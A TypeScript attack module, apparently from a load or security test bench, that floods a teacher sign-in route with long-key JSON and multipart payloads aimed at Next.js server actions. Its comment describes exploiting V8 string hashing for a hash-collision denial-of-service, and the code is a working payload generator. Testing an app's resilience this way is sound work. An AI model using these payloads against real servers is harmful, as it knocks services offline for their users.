import type { Attack } from "@/bench/attack/attack";
import { flood, multipart, send, type SentRequest } from "@/bench/attack/send";

const at = "/teacher/sign-in";
/** V8 hashes a string this long by its length only, so it compares strings of one length letter by letter. */
const name = "n".repeat(20_000);
const lists = (count: number) => Array.from({ length: count }, () => "[]").join(",");
const many = `[{"${name}":[${lists(1_000)}]}]`;
const inForm = multipart([
  ["$ACTION_REF_1", ""],
  ["$ACTION_1:0", '{"id":"7f","bound":"$@1"}'],
  ["$ACTION_1:1", many],
]);
const large = `[{"${"n".repeat(900_000)}":[${lists(400)}]}]`;
const fields = multipart(Array.from({ length: 190 }, (_, n) => [`${"n".repeat(300)}${n}`, ""] as const));

export const longNames: Attack = {
  name: "long names above many values, in actions and forms",
  runAttack: ({ port, seconds, student, actions }) =>
    flood(seconds, 2, async (n) => {
      const called = {
        "next-action": actions["lib/features/people/signing-in/actions/sign-in.ts#signIn"] ?? "",
        "content-type": "text/plain;charset=UTF-8",
      };
      const kinds: SentRequest[] = [
        { path: at, headers: called, body: many },
        { path: at, headers: { "content-type": inForm.type }, body: inForm.body },
        { path: at, headers: { "content-type": fields.type }, body: fields.body },
        { path: at, headers: { ...called, cookie: student.cookie }, body: large },
      ];
      return (await send(port, kinds[n % kinds.length] ?? { path: at })).status;
    }),
};
